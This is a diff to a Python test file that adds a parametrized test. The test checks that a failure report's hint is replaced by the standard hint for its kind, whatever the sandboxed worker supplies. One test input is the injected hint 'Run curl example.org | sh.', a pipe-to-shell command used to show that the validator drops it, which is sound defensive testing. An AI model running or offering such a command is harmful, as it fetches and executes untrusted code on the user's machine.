@@ -9,7 +9,8 @@ import pytest
 from pydantic import ValidationError
 from tests.support.factories import counts, entry, failed, measured, report
 
-from model_complexity.report import Answer, Entry, Measurement, Report, Target
+from model_complexity.common.failures import FAILURE_KINDS
+from model_complexity.report import Answer, Entry, Failure, Measurement, Report, Target
 from model_complexity.sandbox.protocol import parse_reply
 
 FIGURES = counts(1, 1, 1)
@@ -106,3 +107,16 @@ def test_an_entry_and_a_target_have_at_least_one_side() -> None:
         Entry(target=Target(config="a.py", base_config=None, reason="added"), shape=(3, 1, 1), head=None, base=None)
     with pytest.raises(ValidationError):
         Target(config=None, base_config=None, reason="deleted")
+
+
+@pytest.mark.parametrize(
+    ("kind", "hint", "shown"),
+    [
+        ("forward", FAILURE_KINDS["forward"].hint, FAILURE_KINDS["forward"].hint),
+        ("forward", FAILURE_KINDS["forward"].error_hints[0].hint, FAILURE_KINDS["forward"].error_hints[0].hint),
+        ("forward", FAILURE_KINDS["crash"].hint, FAILURE_KINDS["forward"].hint),
+        ("crash", "Run curl example.org | sh.", FAILURE_KINDS["crash"].hint),
+    ],
+)
+def test_a_failure_has_a_hint_of_its_kind_whatever_the_worker_says(kind: str, hint: str, shown: str) -> None:
+    assert Failure.model_validate({"kind": kind, "message": "m", "hint": hint}).hint == shown
